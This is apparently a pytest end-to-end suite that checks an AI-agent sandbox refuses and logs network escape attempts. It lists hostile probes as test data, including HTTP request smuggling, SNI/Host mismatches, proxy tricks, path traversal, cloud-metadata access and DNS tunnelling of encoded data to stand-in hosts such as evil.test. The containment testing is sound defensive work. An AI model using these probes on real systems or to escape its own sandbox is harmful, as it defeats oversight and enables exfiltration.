"""The agent tries every way out and every way around; each is refused fast, and logged."""

import json
import textwrap
import time

import pytest
from tests.e2e.stage.installation import Platform, agent_yaml

pytestmark = pytest.mark.engine

PRELUDE = """
import json, os, socket, ssl, struct, sys, time
HERE = {address!r}
def tcp(host, port, send=b"", family=socket.AF_INET):
    with socket.socket(family, socket.SOCK_STREAM) as s:
        s.settimeout(3)
        s.connect((host, port))
        if send: s.sendall(send)
        got = s.recv(4096)
        if not got: raise ConnectionError("closed")
        return got.decode(errors="replace")
def udp(host, port, data, family=socket.AF_INET):
    with socket.socket(family, socket.SOCK_DGRAM) as s:
        s.settimeout(3)
        s.connect((host, port))
        s.send(data)
        return s.recv(4096).hex()
def query(name, kind=1):
    labels = b"".join(bytes([len(l)]) + l.encode() for l in name.split("."))
    head = b"\\x12\\x34\\1\\0\\0\\1\\0\\0\\0\\0\\0\\0"
    return head + labels + b"\\0" + struct.pack(">HH", kind, 1)
def dns_tcp(host, name):
    with socket.create_connection((host, 53), 3) as s:
        s.sendall(struct.pack(">H", len(query(name))) + query(name))
        return s.recv(4096)[2:].hex()
def tls(host, port, sni, send):
    context = ssl.create_default_context(cafile="/run/pai/ca-bundle.pem")
    with socket.create_connection((host, port), 3) as raw, \\
            context.wrap_socket(raw, server_hostname=sni) as s:
        s.sendall(send)
        return s.recv(4096).decode(errors="replace")
def attempt(function):
    started = time.monotonic()
    try:
        outcome = "answered " + str(function())[:600]
    except Exception as error:
        outcome = "refused " + type(error).__name__ + " " + str(error)[:200]
    print(json.dumps({{"outcome": outcome, "seconds": time.monotonic() - started}}))
"""

GET = 'b"GET / HTTP/1.1\\r\\nhost: evil.test\\r\\n\\r\\n"'

# name: code of the attempt; each must be refused, or answered by our own 403, within a second
ATTEMPTS = {
    "direct ip 443": "lambda: tcp(HERE, 443, b'x' * 10)",
    "direct ip 443 tls": "lambda: tls(HERE, 443, 'evil.test', b'GET / HTTP/1.1\\r\\n\\r\\n')",
    "direct ip 80": f"lambda: tcp(HERE, 80, {GET})",
    "direct ip ssh": "lambda: tcp(HERE, 22)",
    "direct ip raw port": "lambda: tcp(HERE, 9999, b'hello there')",
    "postgres port": "lambda: tcp(HERE, 5432, b'\\0\\0\\0\\x08\\x04\\xd2\\x16/')",
    "udp 443 (quic)": "lambda: udp(HERE, 443, b'\\xc0' * 1200)",
    "udp other": "lambda: udp(HERE, 9999, b'hi')",
    "ipv6 tcp": "lambda: tcp('2001:db8::1', 443, b'x', socket.AF_INET6)",
    "ipv6 udp": "lambda: udp('2001:db8::1', 443, b'x', socket.AF_INET6)",
    "ipv6 v4-mapped": "lambda: tcp('::ffff:' + HERE, 9999, b'x', socket.AF_INET6)",
    "connect proxy": (
        "lambda: tcp('127.0.0.1', 8081, b'CONNECT evil.test:443 HTTP/1.1\\r\\n"
        "host: evil.test:443\\r\\n\\r\\n')"
    ),
    "absolute form": (
        "lambda: tcp('127.0.0.1', 8081, b'GET http://evil.test/ HTTP/1.1\\r\\n"
        "host: api.notes.test\\r\\n\\r\\n')"
    ),
    "sni is not host": (
        "lambda: tls('127.0.0.1', 8443, 'api.notes.test', b'GET /notes HTTP/1.1\\r\\n"
        "host: evil.test\\r\\n\\r\\n')"
    ),
    "two hosts": (
        "lambda: tls('127.0.0.1', 8443, 'api.notes.test', b'GET /notes HTTP/1.1\\r\\n"
        "host: api.notes.test\\r\\nhost: evil.test\\r\\n\\r\\n')"
    ),
    "smuggled request": (
        "lambda: tls('127.0.0.1', 8443, 'api.notes.test', b'POST /notes HTTP/1.1\\r\\n"
        "host: api.notes.test\\r\\ncontent-length: 4\\r\\ntransfer-encoding: chunked\\r\\n\\r\\n"
        "0\\r\\n\\r\\nGET /private/x HTTP/1.1\\r\\nhost: api.notes.test\\r\\n\\r\\n')"
    ),
    "encoded path around a rule": (
        "lambda: tls('127.0.0.1', 8443, 'api.notes.test', "
        "b'GET /notes/..%2fprivate/x HTTP/1.1\\r\\nhost: api.notes.test\\r\\n\\r\\n')"
    ),
    "unknown sni": "lambda: tls('127.0.0.1', 8443, 'evil.test', b'GET / HTTP/1.1\\r\\n\\r\\n')",
    "metadata": "lambda: tcp('169.254.169.254', 80, b'GET / HTTP/1.1\\r\\nhost: x\\r\\n\\r\\n')",
    "metadata tls": "lambda: tcp('169.254.169.254', 443, b'x')",
    "container dns by its own port": (
        "lambda: [udp('127.0.0.11', int(l.split()[1].split(':')[1], 16), query('evil.test'))"
        " for l in open('/proc/net/udp').read().splitlines()[1:]"
        " if l.split()[1].startswith('0B00007F')] or (_ for _ in ()).throw(OSError('no such port'))"
    ),
    "the gateway on the bridge": (
        "lambda: tcp({bridge!r}, {gateway}, b'GET /v1/models HTTP/1.1\\r\\nhost: x\\r\\n\\r\\n')"
    ),
    "the internal api": "lambda: tcp({bridge!r}, {internal}, b'hello')",
    "the public api on the bridge": (
        "lambda: tcp({bridge!r}, {api}, b'GET /healthz HTTP/1.1\\r\\nhost: x\\r\\n\\r\\n')"
    ),
    "the host's ssh": "lambda: tcp({bridge!r}, 22)",
    "another agent, inbound": (
        "lambda: tcp({other!r}, 8082, b'GET / HTTP/1.1\\r\\nhost: x\\r\\n\\r\\n')"
    ),
    "another agent, its port": (
        "lambda: tcp({other!r}, 3000, b'GET / HTTP/1.1\\r\\nhost: x\\r\\n\\r\\n')"
    ),
    "own inbound without the edge": (
        "lambda: tcp('127.0.0.1', 8082, b'GET / HTTP/1.1\\r\\nhost: x\\r\\n\\r\\n')"
    ),
    "raw socket": "lambda: socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)",
    "packet socket": "lambda: socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 3)",
    "icmp echo": (
        "lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP)"
        ".connect((HERE, 0)) or (_ for _ in ()).throw(OSError('nothing was sent'))"
    ),
}

# answered by the responder itself; nothing may leave
DNS_ATTEMPTS = {
    "another dns server": "lambda: udp(HERE, 53, query('evil.test'))",
    "dns over tcp to another server": "lambda: dns_tcp(HERE, 'evil.test')",
    "data in names": "lambda: udp('8.8.8.8', 53, query('c2VjcmV0LWRhdGE.tunnel.test'))",
    "data in txt": "lambda: udp('127.0.0.1', 53, query('c2VjcmV0.tunnel.test', 16))",
}


@pytest.fixture(scope="module")
def other_address(platform: Platform) -> str:
    """Address of another agent on the same platform."""
    platform.apply(agent_yaml("victim"), "--wait", "--timeout", "60")
    for container in platform.engine_command("ps", "--format", "{{.Names}}").split():
        if "victim" in container and "pause" in container:
            networks = json.loads(platform.engine_command("inspect", container))[0]
            found = networks["NetworkSettings"]["Networks"].values()
            return str(next(iter(found))["IPAddress"])
    raise AssertionError("no container of the other agent")


def bridge_of(address: str) -> str:
    """Return the bridge's own address: the first of the network."""
    return ".".join([*address.split(".")[:3], "1"])


def run_attempt(platform: Platform, probe: str, code: str, **facts: object) -> dict[str, object]:
    prelude = PRELUDE.format(address=platform.world.address)
    code = code.format(**facts) if "{" in code else code
    printed = platform.run_in(probe, textwrap.dedent(prelude) + f"\nattempt({code})\n")
    result: dict[str, object] = json.loads(printed)
    return result


NXDOMAIN = 3
DECLARED = ("llm.test", "api.notes.test", "open.test")


def contacts(platform: Platform) -> list[dict[str, object]]:
    """What reached the world besides our own resolver's questions for declared hosts."""
    return [
        event
        for event in platform.world.journal()
        if not (
            event["kind"] == "udp" and event["name"] in ("llm.test", "api.notes.test", "open.test")
        )
    ]


@pytest.mark.parametrize("name", ATTEMPTS)
def test_no_way_out(platform: Platform, probe: str, other_address: str, name: str) -> None:
    before = contacts(platform)
    facts = {**platform.ports, "bridge": bridge_of(other_address), "other": other_address}
    result = run_attempt(platform, probe, ATTEMPTS[name], **facts)
    outcome = str(result["outcome"])
    own_refusal = any(f"HTTP/1.1 {code}" in outcome for code in (400, 403, 404, 421))
    assert outcome.startswith("refused") or own_refusal, outcome
    assert float(str(result["seconds"])) < 1.0, result
    assert contacts(platform) == before


@pytest.mark.parametrize("name", DNS_ATTEMPTS)
def test_no_name_leaves(platform: Platform, probe: str, name: str) -> None:
    before = contacts(platform)
    result = run_attempt(platform, probe, DNS_ATTEMPTS[name])
    answer = bytes.fromhex(str(result["outcome"]).removeprefix("answered "))
    assert answer[:2] == b"\x12\x34"
    assert answer[3] & 0x0F == NXDOMAIN
    assert answer[6:8] == b"\0\0"
    assert float(str(result["seconds"])) < 1.0, result
    assert contacts(platform) == before


def test_refusals_are_logged_with_a_reason(platform: Platform, probe: str) -> None:
    for name in ("direct ip raw port", "direct ip 80", "unknown sni", "sni is not host"):
        run_attempt(platform, probe, ATTEMPTS[name])
    run_attempt(platform, probe, DNS_ATTEMPTS["data in names"])
    wanted = ("evil.test", "tunnel.test", platform.world.address)
    end = time.monotonic() + 15
    while True:
        denied = [r for r in platform.audit(probe) if r["decision"] == "denied"]
        seen = {want for want in wanted if any(want in json.dumps(r) for r in denied)}
        if seen == set(wanted) or time.monotonic() > end:
            break
        time.sleep(0.3)
    assert seen == set(wanted)
    assert all(record["reason"] for record in denied)


def test_a_host_that_was_allowed_passes_untouched(platform: Platform) -> None:
    spec = "  egress:\n    allow: [{host: open.test, ports: [443, 9999]}]\n"
    platform.apply(agent_yaml("opener", spec), "--wait", "--timeout", "60")
    ca = platform.world.ca_file.read_text()
    code = f"""
import ssl, socket
context = ssl.create_default_context(cadata={ca!r})
with socket.create_connection(("open.test", 443), 5) as raw, \\
        context.wrap_socket(raw, server_hostname="open.test") as s:
    s.sendall(b"GET /hello HTTP/1.1\\r\\nhost: open.test\\r\\nconnection: close\\r\\n\\r\\n")
    print(s.recv(100).split(b"\\r\\n")[0])
with socket.create_connection(("open.test", 9999), 5) as s:
    print(s.recv(100))
try:
    socket.create_connection(("open.test", 22), 3).recv(10) or print("closed")
except OSError as error:
    print("refused")
"""
    lines = platform.run_in("opener", code).splitlines()
    assert lines[0] == "b'HTTP/1.1 200 OK'", lines
    assert lines[1] == "b'reached\\n'", lines
    assert lines[2] in ("closed", "refused"), lines
    platform.pai("delete", "agent", "opener", "--wait")
